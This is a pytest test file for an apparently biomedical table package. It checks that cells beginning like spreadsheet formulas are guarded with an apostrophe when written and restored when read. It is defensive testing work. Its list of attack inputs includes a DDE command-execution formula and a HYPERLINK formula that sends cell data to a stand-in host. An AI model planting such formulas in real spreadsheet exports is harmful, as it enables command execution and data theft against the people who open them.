"""No cell that exodx writes is a formula to a spreadsheet, and what it reads back is what was meant."""

import csv
import io

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exodx.privacy.cells import BEGINS, guarded, has_guards, unguarded, unguarded_cells
from exodx.scoring.csv_lines import _quoted
from exodx.tables.decoding import decode
from exodx.tables.delimited import parse
from exodx.tables.reader import read_table

ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "-80C box 4",
    "@SUM(A1)",
    "＝1+1",
    "'=1+1",
    "''-x",
)
HARMLESS = ("S-17", "-1.5", "+3", "1e-5", "-2,5", "'quoted'", "O'Neil", "", "'", "a=b")


@pytest.mark.parametrize("cell", ATTACKS)
def test_what_begins_like_a_formula_is_guarded_and_comes_back(cell):
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_other_texts_stay_as_they_are(cell):
    assert guarded(cell) == unguarded(cell) == cell


cells = st.text(st.sampled_from("='+-@\t\r\n,\"ab19. ＝é"), max_size=8) | st.text(max_size=12)


@given(cells)
def test_every_text_comes_back_and_none_is_a_formula(cell):
    written = guarded(cell)
    assert unguarded(written) == cell
    try:
        float(written.replace(",", "."))
    except ValueError:
        assert not written[:1] or written[0] not in "=+-@\t\r\n＝＋－＠"


@given(cells, cells)
def test_two_texts_never_become_one(one, other):
    assert (guarded(one) == guarded(other)) == (one == other)


@given(st.lists(cells.filter(lambda c: "\x00" not in c), min_size=1, max_size=6))
def test_the_pieces_write_the_bytes_that_the_whole_writes(column):
    column = [cell.encode("utf-8", "ignore").decode() for cell in column]
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows([["x", guarded(cell)] for cell in column])
    lines = [f"x,{cell}\n" for cell in _quoted(pa.array(column, pa.string())).to_pylist()]
    assert "".join(lines) == text.getvalue()


@given(st.lists(cells, min_size=1, max_size=5))
def test_a_text_that_holds_a_guarded_cell_is_known_by_a_look(column):
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows([guarded(cell), "1"] for cell in column)
    if any(guarded(cell) != cell for cell in column):
        assert has_guards(text.getvalue())
        assert has_guards(text.getvalue().encode("utf-8", "surrogatepass"))


def test_columns_without_guards_are_not_copied():
    column = ["S1", "S2"]
    assert unguarded_cells(column)[0] is column
    assert unguarded_cells(["'=x", "'ok'"]) == (["=x", "'ok'"], 1)
    assert BEGINS.startswith("[")


@pytest.mark.parametrize("rows", [2, 20_000], ids=["careful", "as long as what is read quickly"])
@pytest.mark.parametrize("sign", [",", ";", "\t"])
def test_a_table_is_read_as_it_was_before_it_was_guarded(tmp_path, rows, sign):
    ids = ["=A1", "-80C", "@x", "'=y", "-7", "'-7", *(f"S{i}" for i in range(rows))]
    path = tmp_path / "cohort.csv"
    lines = ["specimen_id" + sign + "miR-21-5p", *(f"{guarded(name)}{sign}{-1.5 - i % 7}" for i, name in enumerate(ids))]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    table = read_table(path)
    assert list(table.columns["specimen_id"]) == ids
    assert list(table.columns["miR-21-5p"])[:2] == ["-1.5", "-2.5"]
    assert [note for note in table.notes if "spreadsheets" in note] == [
        "5 cells were written for spreadsheets: the apostrophe before =, +, - or @ was taken off"
    ]


def test_a_workbook_made_of_such_a_table_is_read_so_too(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    for row in (["specimen_id", "miR-21-5p"], ["'=A1", 20.5], ["S2", 21.5]):
        book.active.append(row)
    book.save(tmp_path / "cohort.xlsx")
    table = read_table(tmp_path / "cohort.xlsx")
    assert list(table.columns["specimen_id"]) == ["=A1", "S2"]


def test_nothing_is_noted_where_nothing_was_guarded():
    table = parse("x.csv", decode("x.csv", b"specimen_id,note\nS1,'fine'\nS2,5'-end\n"), [])
    assert list(table.columns["note"]) == ["'fine'", "5'-end"]
    assert table.notes == ("comma-separated",)
